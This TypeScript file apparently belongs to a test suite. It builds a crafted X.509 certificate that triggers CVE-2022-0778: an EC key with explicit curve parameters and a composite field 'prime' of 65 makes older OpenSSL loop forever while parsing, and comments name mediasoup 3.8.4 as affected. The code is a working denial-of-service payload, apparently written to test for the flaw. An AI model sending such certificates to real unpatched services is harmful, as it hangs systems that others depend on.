// The certificate of CVE-2022-0778: an EC public key with explicit curve
// parameters over a prime field whose "prime" is 65 (5 × 13), and a base
// point in compressed form. Decompressing the point takes a square root
// modulo p: OpenSSL before 1.1.1n (mediasoup 3.8.4 bundles 1.1.1k) loops
// forever in BN_mod_sqrt() for this p and y² = 14 (x = 0, a = 0, b = 14),
// while parsing the certificate, before any signature or fingerprint check.
// OpenSSL 3 gives up with an error.
import {
  bitString,
  explicit,
  integer,
  octetString,
  oid,
  sequence,
  set,
  utcTime,
  utf8String,
} from './der.js';

/** The field "prime": composite, ≡ 1 (mod 8), so Tonelli–Shanks runs. */
export const FIELD = 65n;
/** b of y² = x³ + ax + b; with x = 0 and a = 0, the square root asked is of 14. */
export const B = 14n;

const ID_EC_PUBLIC_KEY = '1.2.840.10045.2.1';
const PRIME_FIELD = '1.2.840.10045.1.1';
const ECDSA_WITH_SHA256 = '1.2.840.10045.4.3.2';
const COMMON_NAME = '2.5.4.3';

function name(cn: string): Buffer {
  return sequence(set(sequence(oid(COMMON_NAME), utf8String(cn))));
}

/** The DER of the crafted certificate. */
export function craftedCertificate(): Buffer {
  const compressedPoint = Buffer.from([0x02, 0x00]); // x = 0, even y
  const ecParameters = sequence(
    integer(1n), // ecpVer1
    sequence(oid(PRIME_FIELD), integer(FIELD)),
    sequence(octetString(Buffer.from([0x00])), octetString(Buffer.from([Number(B)]))),
    octetString(compressedPoint), // the base point, compressed
    integer(7n), // order (never reached)
    integer(1n), // cofactor
  );
  const spki = sequence(sequence(oid(ID_EC_PUBLIC_KEY), ecParameters), bitString(compressedPoint));
  const algorithm = sequence(oid(ECDSA_WITH_SHA256));
  const tbs = sequence(
    explicit(0, integer(2n)), // v3
    integer(0x2022_0778n),
    algorithm,
    name('CVE-2022-0778'),
    sequence(utcTime('220315000000Z'), utcTime('320315000000Z')),
    name('CVE-2022-0778'),
    spki,
  );
  // The signature is never looked at: the parser stops (or spins) first.
  return sequence(tbs, algorithm, bitString(Buffer.alloc(8)));
}
